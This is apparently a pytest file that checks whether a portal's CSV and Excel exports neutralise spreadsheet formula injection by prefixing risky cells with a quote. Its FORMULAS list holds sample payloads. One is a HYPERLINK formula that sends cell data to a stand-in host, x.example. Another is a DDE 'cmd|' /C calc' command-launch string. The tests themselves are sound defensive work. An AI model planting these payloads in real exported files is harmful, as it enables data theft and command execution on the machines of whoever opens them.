"""Files that leave the building open as text in Excel: a task written as a formula
(``=HYPERLINK(…)``, ``+``, ``-``, ``@``) is never run by the spreadsheet that opens the download."""
from __future__ import annotations

import csv
import io
import shutil

import pytest
from conftest import ROOT

from portal.build.site import load_site
from portal.outputs import opendata, xlsx
from portal.outputs.tasktable import task_rows

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


@pytest.fixture
def rows(tmp_path):
    shutil.copytree(ROOT / "content", tmp_path / "content")
    path = tmp_path / "content" / "programmes" / "2023-11.yaml"
    text = path.read_text(encoding="utf-8")
    old = "    text: Báo cáo công tác tuyên giáo năm 2023 và nhiệm vụ trọng tâm năm 2024.\n"
    assert old in text
    text = text.replace(old, f"    text: {FORMULAS[0]!r}\n    note: {FORMULAS[3]!r}\n", 1)
    path.write_text(text, encoding="utf-8")
    return task_rows(load_site(tmp_path / "content"))


@pytest.mark.parametrize("value", FORMULAS + ["\tx", "=", "@"])
def test_a_cell_that_would_be_a_formula_is_text(value):
    assert opendata.text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Báo cáo", "24-CT/TW", "2023-11/I-1", "", "'đã có nháy", "1=1"])
def test_other_cells_are_as_written(value):
    assert opendata.text_cell(value) == value


def test_csv_cells_are_text_for_excel(rows):
    records = list(csv.DictReader(io.StringIO(opendata.tasks_csv(rows).decode("utf-8-sig"), newline="")))
    (record,) = [r for r in records if r["id"] == "2023-11/I-1"]
    assert record["text"] == "'" + FORMULAS[0]
    assert not any(value.startswith(("=", "+", "-", "@")) for r in records for value in r.values())


def test_excel_cells_are_strings_not_formulas(rows):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.workbook(rows, "Thử")))
    cells = [cell for row in book.active.iter_rows() for cell in row if isinstance(cell.value, str)]
    (formula,) = [cell for cell in cells if cell.value == FORMULAS[0]]
    assert formula.data_type == "s"
    assert not [cell for cell in cells if cell.data_type == "f"]
